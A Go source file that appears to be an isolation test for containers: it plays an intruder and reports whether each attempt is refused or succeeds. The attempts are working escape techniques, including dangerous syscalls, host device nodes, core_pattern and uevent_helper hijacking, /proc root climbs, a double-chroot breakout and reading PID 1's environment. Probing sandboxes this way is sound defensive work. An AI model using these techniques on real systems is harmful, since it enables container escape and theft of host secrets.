package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// hostile are the commands of an intruder. What an attempt came to is one line:
// its name, and "refused: why" or "SUCCEEDED".
func hostile(name string, args []string) error {
	switch name {
	case "fork":
		return fork(args[0])
	case "sleeper":
		forever()
	case "calls":
		calls()
	case "devices":
		devices(args)
	case "files":
		files()
	case "climb":
		climb(args[0])
	case "descriptors":
		return descriptors()
	case "mounts":
		mounts()
	case "cgroups":
		cgroups()
	case "processes":
		return processes()
	case "spoof":
		return spoof(args)
	case "listen":
		return listen(args[0])
	default:
		return fmt.Errorf("no command %q", name)
	}
	return nil
}

func told(what string, err error) {
	if err != nil {
		fmt.Printf("%s refused: %v\n", what, err)
		return
	}
	fmt.Printf("%s SUCCEEDED\n", what)
}

// fork starts as many processes as it may, up to a limit, and says how many.
func fork(most string) error {
	limit, err := strconv.Atoi(most)
	if err != nil {
		return err
	}
	made := 0
	for range limit {
		c := exec.Command("/proc/self/exe", "sleeper")
		if c.Start() != nil {
			break
		}
		made++
	}
	fmt.Println("forked", made)
	return run("wait", nil)
}

func raw(what string, nr uintptr, args ...uintptr) {
	var a [6]uintptr
	copy(a[:], args)
	_, _, e := unix.RawSyscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
	if e != 0 {
		told(what, e)
		return
	}
	told(what, nil)
}

func str(s string) uintptr {
	b := append([]byte(s), 0)
	return uintptr(unsafe.Pointer(&b[0]))
}

// calls makes the system calls that no container has a use for.
func calls() {
	var buf [256]byte
	at := uintptr(unsafe.Pointer(&buf[0]))
	raw("keyctl", unix.SYS_KEYCTL, 0, ^uintptr(2), 0)
	raw("add_key", unix.SYS_ADD_KEY, str("user"), str("x"), at, 4, ^uintptr(2))
	raw("request_key", unix.SYS_REQUEST_KEY, str("user"), str("x"), 0, ^uintptr(2))
	raw("bpf", unix.SYS_BPF, 0, at, 72)
	raw("perf_event_open", unix.SYS_PERF_EVENT_OPEN, at, 0, ^uintptr(0), ^uintptr(0), 0)
	raw("userfaultfd", unix.SYS_USERFAULTFD, 0)
	raw("open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, ^uintptr(99), at, 0)
	raw("io_uring_setup", unix.SYS_IO_URING_SETUP, 4, at)
	raw("init_module", unix.SYS_INIT_MODULE, at, 8, at)
	raw("finit_module", unix.SYS_FINIT_MODULE, 0, at, 0)
	raw("delete_module", unix.SYS_DELETE_MODULE, str("none"), 0)
	raw("kexec_load", unix.SYS_KEXEC_LOAD, 0, 0, 0, 0)
	raw("reboot", unix.SYS_REBOOT, 0xfee1dead, 672274793, 0)
	raw("settimeofday", unix.SYS_SETTIMEOFDAY, at, 0)
	raw("clock_settime", unix.SYS_CLOCK_SETTIME, 0, at)
	raw("swapon", unix.SYS_SWAPON, str("/none"), 0)
	raw("acct", unix.SYS_ACCT, str("/tmp/acct"))
	raw("syslog", unix.SYS_SYSLOG, 3, at, 100)
	raw("sethostname", unix.SYS_SETHOSTNAME, at, 4)
	raw("setdomainname", unix.SYS_SETDOMAINNAME, at, 4)
	raw("vhangup", unix.SYS_VHANGUP)
	raw("quotactl", unix.SYS_QUOTACTL, 0x80000100, str("/"), 0, at)
	raw("fanotify_init", unix.SYS_FANOTIFY_INIT, 0, 0)
	raw("unshare user", unix.SYS_UNSHARE, unix.CLONE_NEWUSER)
	raw("unshare mount", unix.SYS_UNSHARE, unix.CLONE_NEWNS)
	raw("unshare network", unix.SYS_UNSHARE, unix.CLONE_NEWNET)
	raw("clone user", unix.SYS_CLONE, unix.CLONE_NEWUSER|uintptr(unix.SIGCHLD), 0)
	raw("clone3", unix.SYS_CLONE3, at, 64)
	if fd, err := unix.Open("/proc/1/ns/mnt", unix.O_RDONLY, 0); err == nil {
		raw("setns", unix.SYS_SETNS, uintptr(fd), 0)
	}
}

// devices makes nodes for devices of the host and opens them.
func devices(args []string) {
	list := map[string][2]uint32{"mem": {1, 1}, "port": {1, 4}, "kmsg": {1, 11}, "fuse": {10, 229}, "kvm": {10, 232}, "loop": {7, 0}, "tun": {10, 200}, "disk": {}}
	if major, minor, ok := strings.Cut(args[0], ":"); ok {
		a, _ := strconv.Atoi(major)
		b, _ := strconv.Atoi(minor)
		list["disk"] = [2]uint32{uint32(a), uint32(b)}
	}
	for name, number := range list {
		path, kind := "/tmp/"+name, uint32(unix.S_IFCHR)
		if name == "disk" || name == "loop" {
			kind = unix.S_IFBLK
		}
		if err := unix.Mknod(path, kind|0o666, int(unix.Mkdev(number[0], number[1]))); err != nil {
			told("mknod "+name, err)
			continue
		}
		for _, mode := range []int{unix.O_RDONLY, unix.O_WRONLY, unix.O_RDWR} {
			fd, err := unix.Open(path, mode|unix.O_NONBLOCK, 0)
			told(fmt.Sprintf("open %s %d", name, mode), err)
			if err == nil {
				unix.Close(fd)
			}
		}
	}
	entries, _ := os.ReadDir("/dev")
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	fmt.Println("dev:", strings.Join(names, " "))
}

// files reads and writes what belongs to the kernel.
func files() {
	for _, path := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/proc/sys/fs/file-max",
		"/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", "/proc/bus/pci/devices", "/proc/mtrr",
		"/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/module/kernel/parameters/panic",
	} {
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err == nil {
			_, err = f.WriteString("|/tmp/hostile")
			f.Close()
		}
		told("write "+path, err)
		told("remove "+path, os.Remove(path))
	}
	for _, path := range []string{
		"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats", "/proc/timer_stats", "/proc/kmsg",
		"/proc/interrupts", "/sys/firmware", "/sys/devices/virtual/powercap", "/proc/acpi", "/proc/scsi", "/proc/asound",
	} {
		told("read "+path, readable(path))
	}
}

// readable is nil when there is something in a file or directory.
func readable(path string) error {
	if entries, err := os.ReadDir(path); err == nil {
		if len(entries) == 0 {
			return errors.New("empty")
		}
		return nil
	}
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	var b [64]byte
	if unix.SetNonblock(int(f.Fd()), true) == nil {
		n, err := f.Read(b[:])
		if n == 0 && err != nil {
			return errors.New("empty")
		}
	}
	return nil
}

// climb looks for a file of the host by every way out of a root that there was.
func climb(canary string) {
	up := strings.Repeat("../", 40)
	try := func(path string) {
		for _, p := range []string{path + canary, path + "/" + up + canary} {
			b, err := os.ReadFile(p)
			if err == nil {
				fmt.Printf("climb %s SUCCEEDED: %s\n", p, b)
			}
			if f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0); err == nil {
				_, _ = f.WriteString("touched")
				f.Close()
				fmt.Printf("climb to write %s SUCCEEDED\n", p)
			}
		}
	}
	try("")
	links := []string{"/proc/self/root", "/proc/self/cwd", "/proc/1/root", "/proc/1/cwd", "/proc/thread-self/root"}
	found, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	for i := range 64 {
		found = append(found, "/proc/self/fd/"+strconv.Itoa(i))
	}
	for _, l := range append(links, found...) {
		try(l)
	}
	for fd := range 64 {
		at, err := unix.Openat(fd, up+canary, unix.O_RDONLY, 0)
		if err == nil {
			fmt.Printf("openat %d SUCCEEDED\n", fd)
			unix.Close(at)
		}
		if unix.Fchdir(fd) == nil {
			try(".")
		}
	}
	breakOut(canary)
	fmt.Println("climbed")
}

// breakOut is the classic way out of a chroot: one more inside, while standing
// outside of it.
func breakOut(canary string) {
	_ = os.Mkdir("/tmp/cell", 0o755)
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return
	}
	if err := syscall.Chroot("/tmp/cell"); err != nil {
		return
	}
	_ = unix.Fchdir(root)
	for range 64 {
		_ = os.Chdir("..")
	}
	_ = syscall.Chroot(".")
	if b, err := os.ReadFile(canary); err == nil {
		fmt.Printf("chroot SUCCEEDED: %s\n", b)
	}
}

// descriptors lists what this process was given.
func descriptors() error {
	entries, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return err
	}
	for _, e := range entries {
		to, _ := os.Readlink("/proc/1/fd/" + e.Name())
		fmt.Println("fd", e.Name(), to)
	}
	env, err := os.ReadFile("/proc/1/environ")
	fmt.Printf("environ %q\n", env)
	return err
}
